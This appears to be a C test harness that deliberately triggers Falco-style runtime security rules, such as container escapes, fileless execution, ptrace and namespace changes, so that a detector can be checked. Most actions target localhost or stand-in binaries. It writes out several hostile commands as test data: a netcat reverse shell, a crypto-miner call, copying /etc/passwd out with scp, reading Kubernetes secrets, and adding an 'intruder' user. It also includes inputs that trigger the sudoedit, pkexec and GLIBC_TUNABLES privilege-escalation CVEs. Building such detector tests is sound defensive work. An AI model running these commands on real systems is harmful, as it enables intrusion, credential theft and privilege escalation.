// Actions of processes, named as the public event generator (falcosecurity/event-generator, events/syscall) names them; own
// code. A program of the expected name is this program under another name of the image.
#include "tester.h"
#include <sched.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>

// Another action of this program by a process of another name.
static void act_as(struct report *report, const char *name, const char *action) {
  char *words[] = {(char *)name, "act", (char *)action, NULL};
  run_as(report, name, words);
}

// A child that says 42 when the action had its effect, and nothing on the output.
#define PROGRAM(id, title, ...)                                                                                        \
  ACTION(id, title) {                                                                                                  \
    static char *const words[] = {__VA_ARGS__, NULL};                                                                  \
    run_as(report, words[0], words);                                                                                   \
  }

#define AS(id, title, name, action)                                                                                    \
  ACTION(id, title) { act_as(report, name, action); }

AS(drop, "DropAndExecuteNewBinaryInContainer", "tester", "drop-exec")
AS(fileless, "FilelessExecutionViaMemfdCreate", "tester", "memfd-exec")
AS(shm, "ExecutionFromDevShm", "tester", "tmpfs-exec")
AS(packet, "PacketSocketCreatedInContainer", "tester", "packet-socket")
AS(release, "DetectReleaseAgentFileContainerEscapes", "tester", "release-agent")
AS(namespace_of_thread, "ChangeThreadNamespace", "nsenter", "setns-mount")
AS(unshare_user, "ChangeNamespacePrivilegesViaUnshare", "unshare", "unshare-user")
AS(faults, "UnprivilegedDelegationOfPageFaultsHandlingToAUserspaceProcess", "tester", "userfaultfd-as-user")
AS(metadata, "ContactEC2InstanceMetadataServiceFromContainer", "tester", "connect-metadata")
AS(udp, "UnexpectedUDPTraffic", "tester", "send-udp")
AS(ssh_port, "DisallowedSSHConnectionNonStandardPort", "ssh", "connect-far-443")
AS(in_of_interpreter, "InterpretedProcsInboundNetworkActivity", "python3", "bind")
AS(out_of_interpreter, "InterpretedProcsOutboundNetworkActivity", "python3", "connect-far-443")
AS(system_network, "SystemProcsNetworkActivity", "id", "connect-far-443")

ACTION(attached, "PtraceAttachedToProcess") { act_as(report, "tester", "memory-own-child"); }

ACTION(anti_debug, "PtraceAntiDebugAttempt") { took(report, ptrace(PTRACE_TRACEME, 0, 0, 0), "ptrace traceme"); }

ACTION(mount_by_program, "MountLaunchedInPrivilegedContainer") { act_as(report, "mount", "mount"); }

ACTION(debugfs, "DebugfsLaunchedInPrivillegedContainer") { act_as(report, "debugfs", "block-device"); }

PROGRAM(netcat, "NetcatRemoteCodeExecutionInContainer", "nc", "-e", "/bin/sh", "127.0.0.1", "22")
PROGRAM(stratum, "DetectCryptoMinersUsingTheStratumProtocol", "xmrig", "-o", "stratum+tcp://127.0.0.1:3333", "-u", "user", "-p", "x")
PROGRAM(network_tool, "LaunchSuspiciousNetworkToolInContainer", "nmap", "-sS", "127.0.0.1")
PROGRAM(network_tool_host, "LaunchSuspiciousNetworkToolOnHost", "tcpdump", "-i", "any")
PROGRAM(package_tool, "LaunchPackageManagementProcessInContainer", "apt-get", "install", "nothing")
PROGRAM(copy_in, "LaunchIngressRemoteFileCopyToolsInContainer", "curl", "http://127.0.0.1:4444/file")
PROGRAM(copy_out, "LaunchRemoteFileCopyToolsInContainer", "scp", "/etc/passwd", "127.0.0.1:/tmp")
PROGRAM(kubernetes, "KubernetesClientToolLaunchedInContainer", "kubectl", "get", "secrets")
PROGRAM(decode, "DecodingPayloadInContainer", "base64", "-d", "/tmp/payload")
PROGRAM(user_tools, "UserMgmtBinaries", "useradd", "intruder")

// A shell below a program that has no business with shells.
AS(shell_of_server, "RunShellUntrusted", "httpd", "spawn-shell")
AS(database, "DbProgramSpawnedProcess", "mysqld", "spawn-program")
ACTION(spawn_program, "spawn-program") {
  char *words[] = {"find", "/", NULL};
  run_as(report, "find", words);
}
ACTION(spawn_shell, "spawn-shell") {
  char *words[] = {"sh", "-c", "exit 42", NULL}, *environment[] = {NULL};
  ran(report, run("/bin/sh", words, environment), "sh");
}

// A user of a service, who never signs in, at a terminal.
ACTION(system_user, "SystemUserInteractive") {
  int terminal = posix_openpt(O_RDWR | O_NOCTTY);
  if (terminal < 0 || grantpt(terminal) < 0 || unlockpt(terminal) < 0) return failed(report, "a terminal");
  int other = open(ptsname(terminal), O_RDWR | O_NOCTTY);
  if (other < 0 || dup2(other, 0) < 0) return failed(report, "the terminal's other side");
  if (setgid(2) < 0 || setuid(2) < 0) return failed(report, "setuid");
  char *words[] = {"sh", "-c", "sleep 0.3; exit 42", NULL}, *environment[] = {"PATH=/bin", NULL};
  ran(report, run("/bin/sh", words, environment), "a shell at a terminal");
}

ACTION(not_sudo, "NonSudoSetuid") {
  if (setgid(1000) < 0 || setuid(1000) < 0) return failed(report, "setuid");
  took(report, setuid(1000), "setuid by somebody who is not root");
}

ACTION(faults_as_user, "userfaultfd-as-user") {
  if (setgid(1000) < 0 || setuid(1000) < 0) return failed(report, "setuid");
  took(report, syscall(SYS_userfaultfd, O_CLOEXEC | 1), "userfaultfd"); // 1: faults of the user's own code only
}

// CVE-2021-3156: sudoedit with a backslash at the end, by somebody who is not root.
ACTION(sudo, "SudoPotentialPrivilegeEscalation") {
  if (setgid(1000) < 0 || setuid(1000) < 0) return failed(report, "setuid");
  char *words[] = {"sudoedit", "-s", "\\", NULL};
  run_as(report, "sudoedit", words);
}

// CVE-2021-4034: pkexec without any word.
ACTION(polkit, "PolkitLocalPrivilegeEscalationVulnerability") {
  if (setgid(1000) < 0 || setuid(1000) < 0) return failed(report, "setuid");
  char *words[] = {NULL}, *environment[] = {"GCONV_PATH=.", NULL};
  struct ending ending = run("/testers/pkexec", words, environment);
  ran(report, ending, "pkexec");
}

// CVE-2023-4911.
PROGRAM(tunables, "PotentialLocalPrivilegeEscalationViaEnvironmentVariablesMisuse", "/bin/env",
        "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A", "/testers/su", "ran")

PROGRAM(proxy, "ProgramRunWithDisallowedHttpProxyEnv", "/bin/env", "HTTP_PROXY=http://127.0.0.1:8080", "/testers/curl", "ran")

// In the environment alone, which no word of the command shows.
ACTION(tunables_only, "tunables-in-environment") {
  char *words[] = {"su", "ran", NULL}, *environment[] = {"GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A", NULL};
  ran(report, run("/testers/su", words, environment), "su");
}
